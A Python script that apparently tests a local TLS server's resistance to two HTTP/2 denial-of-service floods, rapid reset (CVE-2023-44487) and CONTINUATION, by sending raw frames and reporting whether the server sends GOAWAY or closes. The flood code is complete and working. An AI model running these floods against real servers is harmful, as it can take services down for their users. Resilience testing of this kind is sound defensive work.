"""HTTP/2 floods against a TLS listener that offers h2 by ALPN, with raw frames.

  flood.py PORT rapid-reset N     open N streams and reset each at once (CVE-2023-44487)
  flood.py PORT continuation N    a HEADERS frame without END_HEADERS, then N CONTINUATION frames
                                  that never end the block (the 2024 CONTINUATION flood)

Prints one JSON line: {"sent": frames sent before the server stopped taking them,
"goaway": whether a GOAWAY came, "error_code": its code, "closed": whether the server closed}.
"""
import json, socket, ssl, struct, sys, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# HPACK, static table: :method GET, :scheme https, :path /, then :authority "a" (literal).
REQUEST_BLOCK = bytes([0x82, 0x87, 0x84, 0x41, 0x01]) + b"a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def main():
    port, mode, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    s = context.wrap_socket(raw, server_hostname="127.0.0.1")
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    s.sendall(PREFACE + frame(4, 0, 0))
    sent = 0
    batch = []
    try:
        if mode == "rapid-reset":
            for i in range(n):
                stream = 1 + 2 * i
                batch.append(frame(1, 0x5, stream, REQUEST_BLOCK))           # HEADERS, END_STREAM|END_HEADERS
                batch.append(frame(3, 0, stream, struct.pack(">I", 8)))      # RST_STREAM, CANCEL
                if len(batch) >= 200:
                    s.sendall(b"".join(batch)); sent += len(batch); batch = []
        else:
            batch.append(frame(1, 0x1, 1, REQUEST_BLOCK))                    # HEADERS, END_STREAM, no END_HEADERS
            field = bytes([0x00, 0x03]) + b"x-a" + bytes([0x7F, 0x81, 0x07]) + b"a" * 1024  # literal, a 1,024-byte value
            for _ in range(n):
                batch.append(frame(9, 0, 1, field))                          # CONTINUATION, never END_HEADERS
                if len(batch) >= 50:
                    s.sendall(b"".join(batch)); sent += len(batch); batch = []
        if batch:
            s.sendall(b"".join(batch)); sent += len(batch)
    except (OSError, ssl.SSLError):
        pass
    goaway, code, closed = False, None, False
    buffer = b""
    deadline = time.monotonic() + 10
    s.settimeout(2)
    while time.monotonic() < deadline:
        try:
            data = s.recv(65536)
        except socket.timeout:
            break
        except (OSError, ssl.SSLError):
            closed = True
            break
        if not data:
            closed = True
            break
        buffer += data
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, payload = buffer[3], buffer[9:9 + length]
            buffer = buffer[9 + length:]
            if kind == 7:
                goaway, code = True, int.from_bytes(payload[4:8], "big")
    print(json.dumps({"sent": sent, "goaway": goaway, "error_code": code, "closed": closed}), flush=True)


main()
